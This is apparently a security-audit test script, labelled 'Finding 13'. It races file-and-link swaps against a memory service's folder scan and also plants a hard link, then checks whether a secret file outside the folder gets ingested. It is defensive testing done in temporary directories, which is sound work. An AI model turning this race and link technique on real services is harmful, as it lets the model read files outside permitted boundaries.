"""Finding 13: a link that takes a file's place between listing and reading; hard links."""

import os
import subprocess
import sys
from pathlib import Path
from tempfile import TemporaryDirectory

from scripts.attacks.arena import Arena, Target
from scripts.attacks.figures import Figure, count

_HIDDEN = "marmalade"
_SWAPPING = Path(__file__).with_name("swapping.py")
_FILES = 40
_SCANS = 60


def attack(arena: Arena) -> list[Figure]:
    """Scan while files and links change places, until the secret shows up; then a hard link."""
    with TemporaryDirectory() as place:
        notes, secret = Path(place, "notes"), Path(place, "outside.md")
        notes.mkdir()
        secret.write_text(f"# Outside\n\n{_HIDDEN} is the secret\n", "utf-8")
        for number in range(_FILES):
            (notes / f"n{number}.md").write_text("# Inside\n\nplain\n", "utf-8")
        with arena.target(MEMORY_SOURCES=str(notes)) as target:
            raced, scans = _race(target, notes, secret, arena.sized(_SCANS))
    with TemporaryDirectory() as place:
        notes, secret = Path(place, "notes"), Path(place, "outside.md")
        notes.mkdir()
        secret.write_text(f"# Outside\n\n{_HIDDEN} is the secret\n", "utf-8")
        os.link(secret, notes / "hard.md")
        with arena.target(MEMORY_SOURCES=str(notes)) as target:
            target.post("/ingest/scan")
            hard = _found(target)
    what = "texts from outside of the folder read by"
    return [
        count(13, f"{what} a link swapped in", raced, note=f"{scans} scans of {_FILES} files"),
        count(13, f"{what} a hard link", hard),
    ]


def _race(target: Target, notes: Path, secret: Path, most: int) -> tuple[int, int]:
    command = [sys.executable, str(_SWAPPING), str(notes), str(secret)]
    swapper = subprocess.Popen(command)
    try:
        for scan in range(1, most + 1):
            target.post("/ingest/scan")
            if found := _found(target):
                return found, scan
    finally:
        swapper.kill()
        swapper.wait()
    return 0, most


def _found(target: Target) -> int:
    found = target.post("/search", query=_HIDDEN, weights={"vector": 0, "text": 1, "graph": 0})
    results = found.body["results"] if found.status == 200 else []
    return int(any(_HIDDEN in one["content"] for one in results))
